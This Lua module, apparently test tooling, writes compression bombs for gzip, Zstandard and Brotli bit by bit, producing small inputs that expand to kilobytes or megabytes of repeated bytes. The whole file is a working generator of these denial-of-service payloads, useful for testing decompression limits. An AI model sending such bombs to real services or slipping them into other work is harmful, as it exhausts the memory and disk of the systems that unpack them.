--- Compression bombs, written bit by bit so that no tool is needed.

local bits = {}

local Writer = {}
Writer.__index = Writer

local function writer() return setmetatable({ bytes = {}, value = 0, count = 0 }, Writer) end

-- The lowest bit first, as in all three formats.
function Writer:put(value, count)
  for _ = 1, count do
    self.value = self.value + value % 2 * 2 ^ self.count
    value = math.floor(value / 2)
    self.count = self.count + 1
    if self.count == 8 then
      self.bytes[#self.bytes + 1] = string.char(self.value)
      self.value, self.count = 0, 0
    end
  end
end

-- Huffman codes are written highest bit first.
function Writer:code(value, count)
  for i = count - 1, 0, -1 do self:put(math.floor(value / 2 ^ i) % 2, 1) end
end

function Writer:text()
  if self.count > 0 then self:put(0, 8 - self.count) end
  return table.concat(self.bytes)
end

--- gzip (RFC 1952): the beginning, and a part that can be repeated: 13 bytes that unpack to 2 kB.
function bits.gzip()
  local w = writer()
  w:put(1, 1)      -- the last block
  w:put(1, 2)      -- with the fixed codes
  w:code(0x30 + 32, 8) -- a blank
  -- Eight times "258 bytes from one byte back" are 104 bits, a whole number of bytes.
  local function matches()
    for _ = 1, 8 do
      w:code(0xC5, 8) -- length 258
      w:code(0, 5)    -- distance 1
    end
  end
  matches()
  local first = #w.bytes
  matches()
  local all = table.concat(w.bytes)
  return "\31\139\8\0\0\0\0\0\0\3" .. all:sub(1, first), all:sub(first + 1)
end

--- Zstandard (RFC 8878): the beginning, and a part that can be repeated: 4 bytes that unpack to 128 kB.
function bits.zstd()
  -- A window of 128 kB, then blocks of one repeated byte.
  local size = 128 * 1024
  local header = size * 8 + 1 * 2
  return "\40\181\47\253\0\56", string.char(header % 256, math.floor(header / 256) % 256,
    math.floor(header / 65536)) .. " "
end

--- Brotli (RFC 7932): `count` times 16 MB of blanks.
function bits.brotli(count)
  local w = writer()
  w:put(0, 1)               -- a window of 64 kB
  for _ = 1, count do
    w:put(0, 1)             -- not the last
    w:put(2, 2)             -- its length in six nibbles
    w:put(2 ^ 24 - 1, 24)   -- less one
    w:put(0, 1)             -- compressed
    w:put(0, 3)             -- one type of blocks of each kind
    w:put(0, 6)             -- no postfix, no direct distances
    w:put(0, 2)             -- the context's mode
    w:put(0, 2)             -- one tree for literals, one for distances
    w:put(1, 2) w:put(0, 2) w:put(32, 8)   -- the only literal: a blank, in no bits
    w:put(1, 2) w:put(0, 2) w:put(504, 10) -- the only command: insert at least 22594, copy 2
    w:put(1, 2) w:put(0, 2) w:put(0, 6)    -- the only distance
    w:put(2 ^ 24 - 22594, 24)
  end
  w:put(3, 2)               -- the last, and empty
  return w:text()
end

return bits
